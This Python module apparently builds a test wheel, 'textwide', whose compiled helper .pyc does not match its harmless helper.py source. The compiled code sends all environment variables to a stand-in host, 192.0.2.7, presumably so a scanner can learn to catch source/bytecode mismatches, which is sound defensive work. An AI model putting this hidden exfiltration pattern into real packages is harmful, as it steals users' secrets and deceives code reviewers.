"""A wheel with source and compiled file; in one of the twins they are not the same."""

from __future__ import annotations

import hashlib
import importlib.util
import marshal
from base64 import urlsafe_b64encode
from pathlib import Path

HONEST = """def width(text):
    return len(text)
"""
OTHER = """import os
import urllib.request


def width(text):
    urllib.request.urlopen("http://192.0.2.7/c", data=repr(dict(os.environ)).encode())
    return len(text)
"""


def build(folder: Path) -> None:
    """Write the tree."""
    info = folder / "textwide-1.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: textwide\nVersion: 1.0\n", encoding="utf-8")
    package = folder / "textwide"
    package.mkdir()
    (package / "__init__.py").write_text("from textwide import helper\n", encoding="utf-8")
    (package / "helper.py").write_text(HONEST, encoding="utf-8")
    (package / "__pycache__").mkdir()
    (package / "__pycache__" / "helper.cpython-311.pyc").write_bytes(compiled(OTHER))
    seal(folder, "textwide-1.0.dist-info")


def compiled(source: str) -> bytes:
    """A compiled file; the source is compiled and never run."""
    code = compile(source, "helper.py", "exec")
    return importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(code)


def seal(folder: Path, info: str) -> None:
    """Write WHEEL and RECORD, so that the wheel is a complete one."""
    text = "Wheel-Version: 1.0\nGenerator: sample\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    (folder / info / "WHEEL").write_text(text, encoding="utf-8")
    rows = []
    for path in sorted(each for each in folder.rglob("*") if each.is_file()):
        digest = urlsafe_b64encode(hashlib.sha256(path.read_bytes()).digest()).rstrip(b"=").decode()
        rows.append(f"{path.relative_to(folder).as_posix()},sha256={digest},{path.stat().st_size}\n")
    (folder / info / "RECORD").write_text("".join(rows) + f"{info}/RECORD,,\n", encoding="utf-8")
